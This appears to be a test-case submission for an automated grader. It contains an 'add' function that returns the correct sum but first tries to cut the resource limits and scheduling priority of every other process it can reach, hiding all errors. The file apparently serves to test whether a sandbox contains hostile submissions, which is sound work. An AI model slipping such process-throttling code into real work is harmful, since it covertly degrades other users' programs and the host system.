# expect: correct
# assignment: add
# how: Lowers whatever limits it can, its own and those of all processes that it can name, and takes
#   the last priority.
# needs: processes
import os
import resource


def add(a, b):
    for pid in range(0, 600):
        if pid == os.getpid():
            continue
        for limit in (resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
            try:
                resource.prlimit(pid, limit, (20, 20)) if pid else None
            except (OSError, ValueError):
                pass
        for which in (os.PRIO_PROCESS, os.PRIO_PGRP):
            try:
                os.setpriority(which, pid, 19)
            except OSError:
                pass
    return a + b
